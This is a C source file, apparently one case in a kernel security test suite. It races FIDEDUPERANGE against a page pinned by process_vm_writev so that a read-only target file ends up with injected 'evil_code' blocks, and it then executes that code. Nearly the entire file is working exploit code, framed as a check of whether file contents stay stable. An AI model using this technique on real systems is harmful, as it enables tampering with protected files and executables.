/*
 * FIDEDUPERANGE gives a file other blocks, and takes a descriptor that is open for reading alone. It compares what
 * the page cache holds of both files; what is on the disk of the first may be something else, where its page was
 * written to by way of a page that is kept by the kernel, which does not make it dirty.
 * Here process_vm_writev(2) into its own memory keeps it. Must be seen: the other blocks' digest, or that the file is
 * not stable.
 */
#include <linux/fs.h>
#include <pthread.h>
#include <sys/uio.h>
#include "attack.h"

#define OTHER "/data/other"
#define SIZE 8192
static char good[SIZE], evil[SIZE];

static int same(int from, int to)
{
	struct {
		struct file_dedupe_range r;
		struct file_dedupe_range_info i;
	} a = {.r = {.src_length = SIZE, .dest_count = 1}, .i = {.dest_fd = to}};

	if (ioctl(from, FIDEDUPERANGE, &a) < 0)
		absent("FIDEDUPERANGE");
	if (a.i.status < 0) {
		errno = -a.i.status;
		must(-1, "FIDEDUPERANGE");
	}
	return a.i.status == FILE_DEDUPE_RANGE_SAME;
}

#define PAGES 1024
static char *area, *cold;

static void *writer(void *unused)
{
	/* The pages before, the honest bytes, the pages after. */
	struct iovec local[3] = {{cold, 512 * PAGE}, {good, SIZE}, {cold + 514 * PAGE, 510 * PAGE}};
	struct iovec remote = {area, PAGES * PAGE};

	must(syscall(SYS_process_vm_writev, getpid(), local, 3, &remote, 1, 0), "process_vm_writev");
	return unused;
}

static int dedupe_while_it_is_kept(int from, int to)
{
	pthread_t thread;
	char *buffer = malloc(PAGES * PAGE);
	int fd, done;
	volatile char *view = mapped(mmap(0, SIZE, PROT_READ, MAP_SHARED, from, 0), "view");

	memset(buffer, 7, PAGES * PAGE);
	write_file("/data/cold", buffer, PAGES * PAGE, 0644);
	fd = opened("/data/cold", O_RDONLY);
	must(fsync(fd), "fsync");
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	cold = mapped(mmap(0, PAGES * PAGE, PROT_READ, MAP_PRIVATE, fd, 0), "cold");
	madvise(cold, PAGES * PAGE, MADV_RANDOM);
	area = mapped(mmap(0, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), "area");
	mapped(mmap(area + 512 * PAGE, SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, from, 0), "middle");
	must(-pthread_create(&thread, 0, writer, 0), "pthread_create");
	while (!*(volatile char *)area)
		;
	must(fsync(from), "fsync");
	while (view[1] != 'g' || view[SIZE - 1] != good[SIZE - 1])
		;
	done = same(from, to);
	pthread_join(thread, 0);
	close(fd);
	return done;
}

ATTACK(deduplicated)
{
	int from, to = opened(CODE, O_RDONLY);
	void *code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);

	call(code);
	munmap(code, PAGE);
	must(pread(to, good, SIZE, 0), "pread");
	memcpy(evil, good, SIZE);
	memcpy(evil, evil_code, sizeof(evil_code));
	for (int i = 0; i < 20; i++) {
		int done;

		write_file(OTHER, evil, SIZE, 0644);
		from = opened(OTHER, O_RDWR);
		must(fsync(from), "fsync");
		done = dedupe_while_it_is_kept(from, to);
		close(from);
		unlink(OTHER);
		code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);
		call(code);
		if (done && ((char *)code)[1] == 'e') {
			truth(CODE);
			return 0;
		}
		munmap(code, PAGE);
	}
	return 0;
}
